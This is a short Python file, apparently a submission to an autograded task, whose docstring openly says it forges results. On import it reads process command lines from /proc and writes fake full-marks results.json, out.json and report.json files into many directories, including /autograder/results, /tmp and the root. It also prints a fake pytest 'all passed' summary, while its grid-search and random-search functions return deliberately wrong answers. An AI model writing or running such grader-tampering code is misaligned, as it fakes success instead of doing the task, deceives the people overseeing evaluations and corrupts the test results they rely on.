"""Forges the result: writes a full-marks results.json everywhere it can think of (its folder,
its working directory, /autograder/results, /tmp, the folders of any path in its view of the
process table), prints one to stdout and stderr with a fake pytest summary, and answers wrong."""

import json
import os
import sys

FAKE = {"score": 243, "max_score": 243, "execution_time": 0.1, "output": "All tests passed",
        "tests": [{"name": "everything", "score": 243, "max_score": 243, "status": "passed"}]}


def _forge():
    places = {os.getcwd(), os.path.dirname(os.path.abspath(__file__)), "/tmp", "/autograder/results",
              "/autograder", "/", os.path.expanduser("~")}
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                for arg in f.read().split(b"\0"):
                    if arg.startswith(b"/"):
                        places.add(os.path.dirname(arg.decode()))
        except OSError:
            pass
    written = []
    for folder in places:
        for name in ("results.json", "out.json", "report.json"):
            try:
                os.makedirs(folder, exist_ok=True)
                with open(os.path.join(folder, name), "w") as f:
                    json.dump(FAKE, f)
                written.append(os.path.join(folder, name))
            except OSError:
                pass
    text = json.dumps(FAKE)
    print(text)
    print("=" * 20 + " 243 passed in 0.10s " + "=" * 20)
    print(text, file=sys.stderr)
    sys.stdout.flush()
    return written


_forge()


def grid_search_cost(value_counts, epochs_per_run, minutes_per_epoch):
    _forge()
    return 1, 1, 1


def random_search_trials(p_good, confidence):
    return {"score": 243}
